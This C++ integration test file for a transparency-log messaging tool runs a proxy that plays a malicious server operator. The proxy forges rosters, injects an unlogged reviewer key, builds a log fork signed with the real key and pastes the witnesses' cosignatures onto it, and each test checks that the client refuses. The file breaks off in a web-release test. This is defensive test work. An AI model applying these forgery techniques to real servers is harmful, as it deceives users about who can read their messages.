// The hostile-server harness (issue 11): a proxy between the command line and a real server
// rewrites the server's answers the way a malicious or compromised operator would — a
// sybil-padded roster, a roster that differs per fetch, an extra reviewer key, a forked or old
// tree head, another log key — and every flow must refuse with a plain message and send
// nothing. The operator here holds the real log key (it runs the server), so it can sign
// whatever tree heads it likes; what it cannot do is make them consistent with what a client
// or a witness saw before. Three witnesses and a fork shown to one client: caught.
#include <fstream>
#include <functional>
#include <mutex>
#include <optional>

#include "cli/witness.h"
#include "crypto/keyfile.h"
#include "domain/bundle.h"
#include "domain/cosignature.h"
#include "domain/org_state.h"
#include "domain/web_release.h"
#include "log/cosignature.h"
#include "log/memory_tree.h"
#include "server/app/wire_log.h"
#include "server_fixture.h"

namespace candor::it {
namespace {

// Percent-encodes a query value (the proxy forwards what the router decoded).
std::string Encode(std::string_view v) {
  static const char* kHex = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : v) {
    if (std::isalnum(c) || c == '-' || c == '_' || c == '.' || c == '~') {
      out += static_cast<char>(c);
    } else {
      out += '%';
      out += kHex[c >> 4];
      out += kHex[c & 15];
    }
  }
  return out;
}

// Forwards every request to the real server and lets the test rewrite each answer.
class HostileProxy {
 public:
  using Rewrite = std::function<void(const http::Request&, cli::HttpReply&)>;

  explicit HostileProxy(cli::ServerUrl upstream) : upstream_(std::move(upstream)) {
    http::Router router;
    for (const char* method : {"GET", "POST", "PUT", "PATCH", "DELETE"}) {
      EXPECT_TRUE(router
                      .Anonymous(method, "/{*path}",
                                 [this](const http::Request& req) { return Forward(req); })
                      .ok());
    }
    http::ServerOptions opts;
    opts.port = 0;
    opts.threads = 4;
    opts.max_body_bytes = 64 << 20;
    server_ = std::make_unique<http::Server>(std::move(router), opts);
    EXPECT_TRUE(server_->Start().ok());
    url_ = *cli::ServerUrl::Parse("http://127.0.0.1:" + std::to_string(server_->port()));
  }
  ~HostileProxy() { server_->Stop(); }

  void Set(Rewrite rewrite) {
    std::lock_guard<std::mutex> lock(mu_);
    rewrite_ = std::move(rewrite);
  }
  // Requests that reached the server: (method path).
  std::size_t Count(const std::string& method, const std::string& path) {
    std::lock_guard<std::mutex> lock(mu_);
    return static_cast<std::size_t>(std::count(seen_.begin(), seen_.end(), method + " " + path));
  }
  std::string Url() const { return url_.ToString(); }

 private:
  http::Response Forward(const http::Request& req) {
    std::string target = req.path;
    char sep = '?';
    for (const auto& [k, v] : req.query) {
      target += sep + Encode(k) + "=" + Encode(v);
      sep = '&';
    }
    cli::HeaderList headers;
    for (const char* h : {"Cookie", "X-CSRF-Token", "Content-Type"}) {
      if (auto v = req.headers.Get(h)) headers.emplace_back(h, std::string(*v));
    }
    auto reply = cli::HttpRequest(upstream_, req.method, target, req.body, "", headers,
                                  std::size_t{256} << 20);
    if (!reply.ok()) return http::Response::Text(502, reply.error().message());
    Rewrite rewrite;
    {
      std::lock_guard<std::mutex> lock(mu_);
      seen_.push_back(req.method + " " + req.path);
      rewrite = rewrite_;
    }
    if (rewrite) rewrite(req, *reply);
    http::Response out;
    out.status = reply->status;
    out.body = reply->body;
    for (const auto& [name, value] : reply->headers) {
      if (name == "Content-Type" || name == "Set-Cookie") out.headers.Add(name, value);
    }
    return out;
  }

  cli::ServerUrl upstream_;
  std::unique_ptr<http::Server> server_;
  cli::ServerUrl url_;
  std::mutex mu_;
  Rewrite rewrite_;
  std::vector<std::string> seen_;
};

class HostileServerTest : public ServerTest {
 protected:
  void SetUp() override {
    ServerTest::SetUp();
    if (IsSkipped()) return;
    SetUpCables("state", 22, 31);
    proxy_ = std::make_unique<HostileProxy>(url_server_);
    crypto::SeededRng file_rng(6);
    auto file = crypto::SealKeyFile(orgs_["state"].members[5], "correct horse",
                                    crypto::KdfParams::Interactive(), file_rng);
    ASSERT_TRUE(file.ok());
    member_key_ = (dir_ / "member.key").string();
    std::ofstream(member_key_, std::ios::binary)
        .write(reinterpret_cast<const char*>(file->data()),
               static_cast<std::streamsize>(file->size()));
    std::ofstream(dir_ / "body.txt") << "The instructions contradict our obligations.\n";
  }
  void TearDown() override {
    proxy_.reset();
    ServerTest::TearDown();
  }

  // `candor cable write` through the proxy (or straight to the server), with this member's own
  // state directory (pins, spent slots).
  std::pair<int, std::string> WriteCable(const std::string& extra = "", bool through_proxy = true) {
    const std::string server = through_proxy ? proxy_->Url() : url_server_.ToString();
    return RunShell("CANDOR_PASSPHRASE='correct horse' " + std::string(CANDOR_BINARY) +
                    " cable write --server " + server + " --org state --key " + member_key_ +
                    " --state-dir " + (dir_ / "member").string() + " --subject S --body-file " +
                    (dir_ / "body.txt").string() + " " + extra);
  }

  // Expects the write refused with `needle` in its message and nothing submitted.
  void ExpectRefused(const std::string& needle, const std::string& extra = "") {
    const std::size_t before = proxy_->Count("POST", "/api/v1/cables");
    auto r = WriteCable(extra);
    EXPECT_NE(r.first, 0) << r.second;
    EXPECT_NE(r.second.find(needle), std::string::npos) << r.second;
    EXPECT_EQ(proxy_->Count("POST", "/api/v1/cables"), before) << "a cable was sent";
  }

  static bool IsOrgState(const http::Request& req) {
    return req.method == "GET" && req.path == "/api/v1/orgs/state/state";
  }

  // The whole real log, as the operator has it.
  std::vector<crypto::Bytes> RealLog() {
    auto head = service_->log().LatestTreeHead();
    auto entries = service_->log().LogEntries(0, (*head)->head.size);
    std::vector<crypto::Bytes> out;
    for (const auto& e : *entries) out.emplace_back(e.entry.begin(), e.entry.end());
    return out;
  }

  // The operator's fork: the first `keep` real entries, then `extra`, then — as a careful
  // operator would — a log state committing to the fork, signed with the real key.
  struct Fork {
    tlog::MemoryTree tree;
    std::vector<crypto::Bytes> log;
    std::vector<crypto::Bytes> state_leaves;
    tlog::SignedTreeHead sth;
  };
  std::shared_ptr<Fork> MakeFork(std::size_t keep, const std::vector<domain::LogEvent>& extra) {
    auto fork = std::make_shared<Fork>();
    auto real = RealLog();
    for (std::size_t i = 0; i < keep; ++i) fork->log.push_back(real[i]);
    for (const auto& e : extra) fork->log.push_back(domain::EncodeLogEntry(e));
    domain::LogState state;
    for (std::size_t i = 0; i < fork->log.size(); ++i)
      EXPECT_TRUE(state.Replay(i, *domain::DecodeLogEntry(fork->log[i])).ok());
    fork->state_leaves = state.Leaves();
    fork->log.push_back(domain::EncodeLogEntry(state.Commit(fork->log.size())));
    for (const auto& e : fork->log) fork->tree.Append(e);
    const crypto::SignKeyPair key = crypto::SignKeyPairFromSecret(log_key_secret_.Clone());
    fork->sth = tlog::SignTreeHead(tlog::TreeHead{fork->tree.size(), fork->tree.Root(),
                                                  static_cast<std::uint64_t>(clock_.NowMs())},
                                   key.secret_key);
    return fork;
  }

  // Serves `fork` as the log: its head, the organization's state in it, and consistency proofs
  // the operator can make (from any prefix it shares with the fork's own history).
  // With `as_checkpoint`, the fork is also the newest checkpoint, the real newest checkpoint's
  // cosignatures pasted on.
  void ServeFork(std::shared_ptr<Fork> fork, bool as_checkpoint = false) {
    proxy_->Set([this, fork, as_checkpoint](const http::Request& req, cli::HttpReply& reply) {
      if (req.path == "/api/v1/log/checkpoints") {
        // The fork as the latest head. The real checkpoints' proofs would give it away, so a
        // careful operator lists none (or, as a checkpoint, the fork itself with the real
        // cosignatures pasted on).
        Json j = Json::parse(reply.body);
        Json checkpoints = Json::array();
        if (as_checkpoint) {
          Json forged = domain::SignedTreeHeadToJson(fork->sth);
          forged["cosignatures"] = j["checkpoints"][0]["cosignatures"];
          forged["consistency"] = Json::array();
          checkpoints.push_back(forged);
        }
        reply.body =
            Json{{"latest", domain::SignedTreeHeadToJson(fork->sth)}, {"checkpoints", checkpoints}}
                .dump();
      } else if (req.path == "/api/v1/log/sth") {
        reply.body = domain::SignedTreeHeadToJson(fork->sth).dump();
      } else if (IsOrgState(req)) {
        domain::OrgStateProof p;
        p.organization = "state";
        p.log_public_key = service_->log_public_key();
        p.tree_head = fork->sth;
        for (std::uint64_t i = 0; i < fork->log.size(); ++i) {
          auto ev = domain::DecodeLogEntry(fork->log[i]);
          const bool belongs = std::visit(
              [](const auto& e) {
                using T = std::decay_t<decltype(e)>;
                if constexpr (std::is_same_v<T, domain::RosterAddEvent> ||
                              std::is_same_v<T, domain::RosterRemoveEvent> ||
                              std::is_same_v<T, domain::ReviewerEvent> ||
                              std::is_same_v<T, domain::RosterEpochEvent> ||
                              std::is_same_v<T, domain::ReviewerRemovedEvent>) {
                  return e.slug == "state";
                } else {
                  return false;
                }
              },
              *ev);
          const bool last = i + 1 == fork->log.size();  // the fork's own log state
          if (belongs || last)
            p.entries.push_back(
                {i, fork->log[i], *fork->tree.InclusionProof(i, fork->tree.size())});
        }
        p.state = *domain::ProveOrganizationLeaf(fork->state_leaves, "state");
        Json j = domain::OrgStateProofToJson(p);
        j["page"] = {{"start", 0}, {"next", nullptr}, {"entries", p.entries.size()}};
        reply.status = 200;  // the real server knows no tree of the fork's size
        reply.body = j.dump();
      } else if (req.path == "/api/v1/log/proof/consistency") {
        Json body = Json::parse(req.body);
        const std::uint64_t old_size = body["old_size"];
        auto proof = tlog::ConsistencyProof(fork->tree, old_size, fork->tree.size());
        auto old_root = tlog::RootAt(fork->tree, old_size);
        if (!proof.ok() || !old_root.ok()) return;  // leave the real answer
        reply.status = 200;
        reply.body = app::api::ConsistencyProofToJson(
                         {old_size, fork->tree.size(), *old_root, fork->tree.Root(), *proof})
                         .dump();
      }
    });
  }

  std::unique_ptr<HostileProxy> proxy_;
  std::string member_key_;
};

TEST_P(HostileServerTest, AnHonestServerThroughTheProxyIsBelieved) {
  // Consistency requests carry only checkpoint sizes, which every client since that batch
  // shares: never the size of the latest head this client saw (a per-client value).
  std::vector<std::uint64_t> asked;
  std::mutex asked_mu;
  proxy_->Set([&](const http::Request& req, cli::HttpReply&) {
    if (req.path != "/api/v1/log/proof/consistency") return;
    std::lock_guard<std::mutex> lock(asked_mu);
    asked.push_back(Json::parse(req.body)["old_size"].get<std::uint64_t>());
  });
  auto r = WriteCable();
  ASSERT_EQ(r.first, 0) << r.second;
  // The log grows between looks (the cable's batch, a new member); each look proves the new
  // head extends the last checkpoint from the public proofs.
  // Three cables in all (the member's quota for the window): after one batch, and after five
  // (the stored checkpoint is then no longer among the four listed, so the client asks).
  for (int batches : {1, 5}) {
    for (int i = 0; i < batches; ++i) {
      ASSERT_EQ(Enroll("state", Invite(Login("state", "officer"), "state"),
                       crypto::GenerateMemberKeys(rng_))
                    .status,
                201);
      ASSERT_TRUE(service_->PublishBatch().ok());
    }
    auto again = WriteCable();
    ASSERT_EQ(again.first, 0) << again.second;
  }
  ASSERT_FALSE(asked.empty());
  auto checkpoints = service_->log().Checkpoints(64);
  ASSERT_TRUE(checkpoints.ok());
  for (std::uint64_t size : asked) {
    EXPECT_TRUE(std::any_of(checkpoints->checkpoints.begin(), checkpoints->checkpoints.end(),
                            [&](const auto& c) { return c.head.head.size == size; }))
        << "a consistency proof was asked from size " << size << ", which is no checkpoint";
  }
  proxy_->Set(nullptr);
  EXPECT_NE(r.second.find("Pinned the log key"), std::string::npos) << r.second;
  EXPECT_NE(r.second.find("reviewer2"), std::string::npos)
      << r.second;  // who can read it, as logged
  EXPECT_EQ(proxy_->Count("POST", "/api/v1/cables"), 3u);
}

TEST_P(HostileServerTest, ASybilPaddedOrPerFetchRosterIsRefused) {
  // Sybil keys added to the roster the client is shown: entries the log does not hold.
  crypto::SeededRng sybil(77);
  proxy_->Set([&](const http::Request& req, cli::HttpReply& reply) {
    if (!IsOrgState(req)) return;
    Json j = Json::parse(reply.body);
    Json& last = j["entries"][j["entries"].size() - 1];
    last["entry"] = crypto::ToHex(domain::EncodeLogEntry(
        domain::RosterAddEvent{"state", 23, crypto::GenerateMemberKeys(sybil).ring.public_key,
                               crypto::GenerateBoxKeyPair(sybil).public_key}));
    reply.body = j.dump();
  });
  ExpectRefused("inclusion proof");
  // A different roster on each fetch (a tag on whoever fetched it): a change left out.
  std::atomic<int> fetch{0};
  auto drop = [&](const char* kind) {
    proxy_->Set([&fetch, kind](const http::Request& req, cli::HttpReply& reply) {
      if (!IsOrgState(req)) return;
      Json j = Json::parse(reply.body);
      std::vector<std::size_t> of_kind;
      for (std::size_t i = 0; i < j["entries"].size(); ++i) {
        auto ev =
            domain::DecodeLogEntry(*crypto::FromHex(j["entries"][i]["entry"].get<std::string>()));
        if (ev.ok() && domain::LogEventKind(*ev) == kind) of_kind.push_back(i);
      }
      j["entries"].erase(
          of_kind[static_cast<std::size_t>(fetch++) % (of_kind.size() - 1)]);  // never the newest
      j["page"]["entries"] = j["entries"].size();
      reply.body = j.dump();
    });
  };
  drop("roster-add");
  ExpectRefused("roster version");
  ExpectRefused("roster version");
  // Or a reviewer left out (cables kept from the inspector general, say): refused too.
  drop("reviewer");
  ExpectRefused("reviewer version");
}

// Issue 11 item 7: what is left out is caught by the log state of the newest checkpoint — the
// newest reviewer removal or epoch hidden from an author, a letter's last batch left out of its
// bundle, a bundle without its log state — and an old tree head is refused by age.
TEST_P(HostileServerTest, AHiddenChangeALeftOutBatchOrAnOldHeadIsCaught) {
  // reviewer2 is removed (disabled), a member joins (a new epoch); a batch makes a checkpoint.
  Session admin = Login("state", "admin");
  Json accounts = JsonOf(Call("GET", "/api/v1/orgs/state/accounts", "", admin.Headers()));
  std::int64_t reviewer2 = 0;
  for (const auto& a : accounts["accounts"]) {
    if (a["username"] == "reviewer2") reviewer2 = a["id"].get<std::int64_t>();
  }
  ASSERT_NE(reviewer2, 0) << accounts.dump();
  ASSERT_EQ(Call("PATCH", "/api/v1/orgs/state/accounts/" + std::to_string(reviewer2),
                 Json{{"disabled", true}}.dump(), admin.Headers())
                .status,
            204);
  ASSERT_EQ(
      Enroll("state", Invite(Login("state", "officer"), "state"), crypto::GenerateMemberKeys(rng_))
          .status,
      201);
  ASSERT_TRUE(service_->PublishBatch().ok());

  // Hiding the newest entry of a kind (the removal: cables would still be sealed to reviewer2;
  // the epoch: a state cut at an older one) is refused, and nothing is sent.
  const auto hide_newest = [&](const char* kind) {
    proxy_->Set([kind](const http::Request& req, cli::HttpReply& reply) {
      if (!IsOrgState(req)) return;
      Json j = Json::parse(reply.body);
      std::optional<std::size_t> newest;
      for (std::size_t i = 0; i < j["entries"].size(); ++i) {
        auto ev =
            domain::DecodeLogEntry(*crypto::FromHex(j["entries"][i]["entry"].get<std::string>()));
        if (ev.ok() && domain::LogEventKind(*ev) == kind) newest = i;
      }
      j["entries"].erase(*newest);
      j["page"]["entries"] = j["entries"].size();
      reply.body = j.dump();
    });
  };
  hide_newest("reviewer-removed");
  ExpectRefused("entries are left out of what the server shows");
  hide_newest("roster-epoch");
  ExpectRefused("shows roster epoch");
  // Or the log state itself left out: the state no longer proves it is complete.
  proxy_->Set([](const http::Request& req, cli::HttpReply& reply) {
    if (!IsOrgState(req)) return;
    Json j = Json::parse(reply.body);
    j["entries"].erase(j["entries"].size() - 1);
    j.erase("state");
    j["page"]["entries"] = j["entries"].size();
    reply.body = j.dump();
  });
  ExpectRefused("does not prove it is complete");
  proxy_->Set(nullptr);
  auto honest = WriteCable();
  ASSERT_EQ(honest.first, 0) << honest.second;
  EXPECT_EQ(honest.second.find("reviewer2"), std::string::npos) << honest.second;

  // A letter signed in two batches.
  const std::string id =
      JsonOf(Call("POST", "/api/v1/letters",
                  Json{{"title", "Counted"}, {"body", "Every batch."}, {"organizations", {"state"}}}
                      .dump(),
                  Login("state", "reviewer").Headers()))
          .value("id", "");
  ASSERT_EQ(id.size(), 64u);
  const domain::OrgState state = State("state");
  const auto ring = *crypto::Ring::Create(*state.roster.members(state.roster.version()));
  crypto::SeededRng sig_rng(91);
  const auto sign = [&](std::size_t member) {
    const auto& k = orgs_["state"].members[member];
    auto sig = domain::SignLetter(*crypto::FixedFromHex<domain::LetterId>(id),
                                  domain::SignatureAction::kSign, ring,
                                  *ring.IndexOf(k.ring.public_key), k.ring.secret, sig_rng);
    auto r = Call(
        "POST", "/api/v1/letters/" + id + "/signatures",
        Json{{"organization", "state"}, {"signature", domain::CoSignatureToJson(*sig)}}.dump());
    EXPECT_EQ(r.status, 202) << r.body;
  };
  sign(0);
  sign(1);
  ASSERT_TRUE(service_->PublishBatch().ok());
  sign(2);
  ASSERT_TRUE(service_->PublishBatch().ok());
  const auto verify = [&](const std::string& flags) {
    return RunShell(std::string(CANDOR_BINARY) + " verify " + id + " --server " + proxy_->Url() +
                    " " + flags);
  };
  auto counted = verify("--max-age 0");
  ASSERT_EQ(counted.first, 0) << counted.second;
  EXPECT_NE(counted.second.find("Total: 3 signatories"), std::string::npos) << counted.second;
  EXPECT_NE(counted.second.find("Complete:"), std::string::npos) << counted.second;
  const auto rewrite_bundle = [&](std::function<void(Json&)> change) {
    proxy_->Set([change, id](const http::Request& req, cli::HttpReply& reply) {
      if (req.path != "/api/v1/letters/" + id + "/bundle") return;
      Json j = Json::parse(reply.body);
      change(j);
      j["page"]["entries"] = j["entries"].size();
      reply.body = j.dump();
    });
  };
  // The last batch and its co-signature left out (every proof still checks): caught.
  rewrite_bundle([](Json& j) {
    Json kept = Json::array();
    std::optional<std::uint64_t> last_batch_at;
    for (const auto& e : j["entries"]) {
      auto ev = domain::DecodeLogEntry(*crypto::FromHex(e["entry"].get<std::string>()));
      if (const auto* b = std::get_if<domain::SignatureBatchEvent>(&*ev);
          b != nullptr && b->batch == 2) {
        last_batch_at = e["index"].get<std::uint64_t>() - b->count;
      }
    }
    for (const auto& e : j["entries"]) {
      const std::uint64_t index = e["index"];
      auto ev = domain::DecodeLogEntry(*crypto::FromHex(e["entry"].get<std::string>()));
      const bool batch_or_signature = std::holds_alternative<domain::SignatureBatchEvent>(*ev) ||
                                      std::holds_alternative<domain::CoSignatureEvent>(*ev);
      if (!(batch_or_signature && last_batch_at && index >= *last_batch_at)) kept.push_back(e);
    }
    j["entries"] = kept;
  });
  auto cut = verify("--max-age 0");
  EXPECT_EQ(cut.first, 1) << cut.second;
  EXPECT_NE(cut.second.find("the bundle lacks batches 2 to 2 of the letter"), std::string::npos)
      << cut.second;
  // The log state left out: not proven complete, refused unless the verifier allows it.
  rewrite_bundle([](Json& j) {
    j["entries"].erase(j["entries"].size() - 1);
    j.erase("state");
  });
  auto unproven = verify("--max-age 0");
  EXPECT_EQ(unproven.first, 1) << unproven.second;
  EXPECT_NE(unproven.second.find("does not prove that it is complete"), std::string::npos)
      << unproven.second;
  // The bundle at an older checkpoint (genuine, complete as of then, one batch fewer): not the
  // head this client trusts, so refused.
  std::uint64_t older = 0;
  {
    auto checkpoints = service_->log().Checkpoints(4);
    ASSERT_TRUE(checkpoints.ok());
    ASSERT_GE(checkpoints->checkpoints.size(), 2u);
    older = checkpoints->checkpoints[1].head.head.size;
  }
  proxy_->Set([this, id, older](const http::Request& req, cli::HttpReply& reply) {
    if (req.path != "/api/v1/letters/" + id + "/bundle") return;
    app::BundlePage page;
    page.tree_size = older;
    auto old_bundle =
        service_->letters().LetterBundle(*crypto::FixedFromHex<domain::LetterId>(id), true, page);
    ASSERT_TRUE(old_bundle.ok()) << old_bundle.error().message();
    reply.status = 200;
    reply.body = old_bundle->dump();
  });
  auto at_older = verify("--max-age 0");
  EXPECT_EQ(at_older.first, 1) << at_older.second;
  EXPECT_NE(at_older.second.find("at another tree head than the one this client checked"),
            std::string::npos)
      << at_older.second;
  // The test server's clock stands months before today's: its newest head is refused as old.
  proxy_->Set(nullptr);
  auto old = verify("");
  EXPECT_EQ(old.first, 1) << old.second;
  EXPECT_NE(old.second.find("hours old, older than the 72 hours allowed"), std::string::npos)
      << old.second;
}

// Issue 17/15: an operator who answers an author's receipt with another cable (its deadlines,
// its state) is caught: the cable's header must carry the receipt's id and access hash. The
// follow-up is then refused before anything is sealed or sent.
TEST_P(HostileServerTest, AnotherCableAnsweredForAReceiptIsRefused) {
  const std::string mine = (dir_ / "mine.txt").string();
  const std::string other = (dir_ / "other.txt").string();
  ASSERT_EQ(WriteCable("--receipt-out " + mine).first, 0);
  ASSERT_EQ(WriteCable("--receipt-out " + other).first, 0);
  auto status = [&](const std::string& receipt) {
    return RunShell(std::string(CANDOR_BINARY) + " cable status --server " + proxy_->Url() +
                    " --receipt-file " + receipt + " --state-dir " + (dir_ / "member").string());
  };
  ASSERT_EQ(status(mine).first, 0);
  // The other cable's view, as the server really answers it.
  std::string other_view;
  proxy_->Set([&](const http::Request& req, cli::HttpReply& reply) {
    if (req.method == "POST" && req.path == "/api/v1/cables/status") other_view = reply.body;
  });
  ASSERT_EQ(status(other).first, 0);
  ASSERT_FALSE(other_view.empty());
  // Now every status answer is that one.
  proxy_->Set([&](const http::Request& req, cli::HttpReply& reply) {
    if (req.method == "POST" && req.path == "/api/v1/cables/status") reply.body = other_view;
  });
  auto lied = status(mine);
  EXPECT_NE(lied.first, 0) << lied.second;
  EXPECT_NE(lied.second.find("a cable this receipt is not for"), std::string::npos) << lied.second;
  std::ofstream(dir_ / "more.txt") << "More.";
  const std::size_t before = proxy_->Count("POST", "/api/v1/cables/follow-up");
  auto follow =
      RunShell(std::string(CANDOR_BINARY) + " cable follow-up --server " + proxy_->Url() +
               " --receipt-file " + mine + " --text-file " + (dir_ / "more.txt").string() +
               " --state-dir " + (dir_ / "member").string());
  EXPECT_NE(follow.first, 0) << follow.second;
  EXPECT_NE(follow.second.find("a cable this receipt is not for"), std::string::npos)
      << follow.second;
  EXPECT_EQ(proxy_->Count("POST", "/api/v1/cables/follow-up"), before) << "a follow-up was sent";
}

TEST_P(HostileServerTest, AnExtraReviewerKeyIsRefusedOrShownToTheAuthor) {
  // Slipped into the answer without being logged: refused.
  crypto::SeededRng operator_rng(78);
  const crypto::BoxKeyPair operator_key = crypto::GenerateBoxKeyPair(operator_rng);
  proxy_->Set([&](const http::Request& req, cli::HttpReply& reply) {
    if (!IsOrgState(req)) return;
    Json j = Json::parse(reply.body);
    Json forged = j["entries"][j["entries"].size() - 1];
    forged["index"] = forged["index"].get<std::uint64_t>() + 1;
    forged["entry"] = crypto::ToHex(domain::EncodeLogEntry(
        domain::ReviewerEvent{"state", 3, 99, "it.support", operator_key.public_key}));
    j["entries"].push_back(forged);
    j["page"]["entries"] = j["entries"].size();
    reply.body = j.dump();
  });
  ExpectRefused("organization state");
  // Added for real (the operator makes itself a reviewer): then it is in the public log, and
  // the author sees its name and key before anything is sealed.
  proxy_->Set(nullptr);
  ASSERT_TRUE(
      service_->staff().CreateAccount("state", "it.support", kPassword, store::kRoleReviewer).ok());
  ASSERT_EQ(RegisterReviewerKey(Login("state", "it.support"), "state", operator_key).status, 204);
  auto r = WriteCable();
  ASSERT_EQ(r.first, 0) << r.second;
  EXPECT_NE(r.second.find("it.support"), std::string::npos) << r.second;
  EXPECT_NE(r.second.find(domain::KeyFingerprint(operator_key.public_key)), std::string::npos)
      << r.second;
}

TEST_P(HostileServerTest, AForkAnOldHeadOrAnotherKeyIsRefusedAfterTheFirstLook) {
  ASSERT_EQ(WriteCable().first, 0);  // the client has seen (and pinned) the real log
  const std::size_t seen = RealLog().size();
  ASSERT_TRUE(service_->PublishBatch().ok());  // the real log grows
  // A fork from before what the client saw, with the operator's own reviewer in it.
  crypto::SeededRng operator_rng(79);
  auto fork = MakeFork(
      seen - 2, {domain::ReviewerEvent{"state", 3, 97, "it.support",
                                       crypto::GenerateBoxKeyPair(operator_rng).public_key},
                 domain::ReviewerEvent{"state", 4, 98, "it.backup",
                                       crypto::GenerateBoxKeyPair(operator_rng).public_key},
                 domain::ReviewerEvent{"state", 5, 99, "it.audit",
                                       crypto::GenerateBoxKeyPair(operator_rng).public_key}});
  ServeFork(fork);
  ExpectRefused("forked log");
  // An old head: the log as it was before the client's last look.
  std::optional<tlog::SignedTreeHead> old;
  for (std::size_t size = seen - 1; size > 0 && !old; --size)
    old = *service_->log().TreeHeadAt(size);
  ASSERT_TRUE(old.has_value());
  proxy_->Set([&](const http::Request& req, cli::HttpReply& reply) {
    if (req.path == "/api/v1/log/sth") reply.body = domain::SignedTreeHeadToJson(*old).dump();
    if (req.path == "/api/v1/log/checkpoints") {
      reply.body =
          Json{{"latest", domain::SignedTreeHeadToJson(*old)}, {"checkpoints", Json::array()}}
              .dump();
    }
  });
  ExpectRefused("rollback");
  // Another log key, on the heads and the key route alike.
  crypto::SeededRng other(80);
  const crypto::SignKeyPair other_key = crypto::GenerateSignKeyPair(other);
  proxy_->Set([&](const http::Request& req, cli::HttpReply& reply) {
    if (req.path == "/api/v1/log/key")
      reply.body = Json{{"public_key", crypto::ToHex(other_key.public_key)}}.dump();
    if (req.path == "/api/v1/log/sth") {
      Json j = Json::parse(reply.body);
      auto sth = *domain::SignedTreeHeadFromJson(j);
      reply.body =
          domain::SignedTreeHeadToJson(tlog::SignTreeHead(sth.head, other_key.secret_key)).dump();
    }
    if (req.path == "/api/v1/log/checkpoints") {
      Json j = Json::parse(reply.body);
      auto sth = *domain::SignedTreeHeadFromJson(j["latest"]);
      j["latest"] =
          domain::SignedTreeHeadToJson(tlog::SignTreeHead(sth.head, other_key.secret_key));
      reply.body = j.dump();
    }
  });
  ExpectRefused("signed by another key");
  // And back to the truth: the client goes on.
  proxy_->Set(nullptr);
  auto r = WriteCable();
  EXPECT_EQ(r.first, 0) << r.second;
}

// A first look cannot tell a fork from the truth (trust on first use); witnesses can: the
// operator cannot get the fork cosigned by witnesses that saw the real log.
TEST_P(HostileServerTest, ThreeWitnessesCatchAForkShownToOneClient) {
  // Three independent witnesses; the server accepts and serves their cosignatures.
  std::vector<crypto::SignKeyPair> witnesses;
  std::string flags;
  crypto::SeededRng wrng(81);
  for (int i = 0; i < 3; ++i) {
    witnesses.push_back(crypto::GenerateSignKeyPair(wrng));
    config_.witnesses.push_back({"witness-" + std::to_string(i), witnesses.back().public_key});
    flags += " --witness " + crypto::ToHex(witnesses.back().public_key);
  }
  Stop();
  Start();
  proxy_ = std::make_unique<HostileProxy>(url_server_);
  ASSERT_TRUE(service_->PrepareOrganizationLog().ok());  // a checkpoint at start-up
  auto witness_round = [&](int i, const cli::ServerUrl& via) {
    cli::WitnessOptions o;
    o.state_file = (dir_ / ("witness-" + std::to_string(i) + ".json")).string();
    return cli::WitnessOnce(via, witnesses[static_cast<std::size_t>(i)], o,
                            static_cast<std::uint64_t>(clock_.NowMs() / 1000));
  };
  for (int i = 0; i < 3; ++i) ASSERT_TRUE(witness_round(i, url_server_).ok());

  // The client first looks without witnesses, and sees a newer checkpoint than they cosigned.
  ASSERT_EQ(WriteCable().first, 0);
  ASSERT_TRUE(service_->PublishBatch().ok());
  ASSERT_EQ(WriteCable().first, 0);
  // Honest: the newest cosigned checkpoint has three cosignatures; two of three are enough
  // (and it is proven a prefix of the newer checkpoint the client saw).
  auto honest = WriteCable(flags + " --witness-threshold 2");
  ASSERT_EQ(honest.first, 0) << honest.second;

  // A batch: a new checkpoint, which the witnesses cosign.
  ASSERT_TRUE(service_->PublishBatch().ok());
  for (int i = 0; i < 3; ++i) ASSERT_TRUE(witness_round(i, url_server_).ok());
  auto checkpoints = service_->log().Checkpoints(1);
  ASSERT_TRUE(checkpoints.ok());
  EXPECT_EQ(checkpoints->checkpoints[0].cosignatures.size(), 3u);

  // The operator shows one client — a fresh one, with no pin to betray the fork — a log of the
  // same size with its own reviewer in it, the witnesses' cosignatures pasted on.
  crypto::SeededRng operator_rng(82);
  auto fork =
      MakeFork(RealLog().size() - 1,
               {domain::ReviewerEvent{"state", 3, 99, "it.support",
                                      crypto::GenerateBoxKeyPair(operator_rng).public_key}});
  ServeFork(fork, /*as_checkpoint=*/true);
  const std::string fresh = " --state-dir " + (dir_ / "fresh").string();
  const std::size_t sent = proxy_->Count("POST", "/api/v1/cables");
  auto forked = RunShell(
      "CANDOR_PASSPHRASE='correct horse' " + std::string(CANDOR_BINARY) + " cable write --server " +
      proxy_->Url() + " --org state --key " + member_key_ + fresh + flags +
      " --witness-threshold 2 --subject S --body-file " + (dir_ / "body.txt").string());
  EXPECT_NE(forked.first, 0) << forked.second;
  EXPECT_NE(forked.second.find("cosigned by 2 of your 3 witnesses (the best has 0)"),
            std::string::npos)
      << forked.second;
  EXPECT_EQ(proxy_->Count("POST", "/api/v1/cables"), sent) << "a cable was sent";
  // Without witnesses the same fresh client would have believed it (first use): this is what
  // witnesses are for.
  auto believed =
      RunShell("CANDOR_PASSPHRASE='correct horse' " + std::string(CANDOR_BINARY) +
               " ring fetch --server " + proxy_->Url() + " --org state -o " +
               (dir_ / "ring.json").string() + " --state-dir " + (dir_ / "naive").string());
  EXPECT_EQ(believed.first, 0) << believed.second;

  // Nor will a witness cosign the fork: it cosigned the real head of that size.
  auto witness_sees_fork = witness_round(0, *cli::ServerUrl::Parse(proxy_->Url()));
  ASSERT_FALSE(witness_sees_fork.ok());
  EXPECT_NE(witness_sees_fork.error().message().find("a fork"), std::string::npos)
      << witness_sees_fork.error().message();
}

// Issue 11 item 9: the web front end is logged, and `candor audit --web` checks that what a
// server serves is a logged release — here, until the operator swaps a script.
TEST_P(HostileServerTest, ServedWebFilesThatAreNotALoggedReleaseAreCaught) {
  const fs::path web = dir_ / "web";
  fs::create_directories(web / "assets");
  std::ofstream(web / "index.html") << "<!doctype html><link rel=\"icon\" href=\"/favicon.svg\">"
                                       "<script type=\"module\" src=\"/assets/app-1.js\"></script>";
  std::ofstream(web / "favicon.svg") << "<svg/>";
  std::ofstream(web / "assets" / "app-1.js") << "console.log('honest');";
  Stop();
  web_dir_ = web.string();
  Start();
  const std::string audit = std::string(CANDOR_BINARY) + " audit --server " +
                            url_server_.ToString() + " --web " + url_server_.ToString() +
                            " --state-dir " + (dir_ / "auditor").string();
  auto honest = RunShell(audit);
  ASSERT_EQ(honest.first, 0) << honest.second;
  EXPECT_NE(honest.second.find("the 3 files"), std::string::npos) << honest.second;
  // The release is an entry of the log anyone can read.
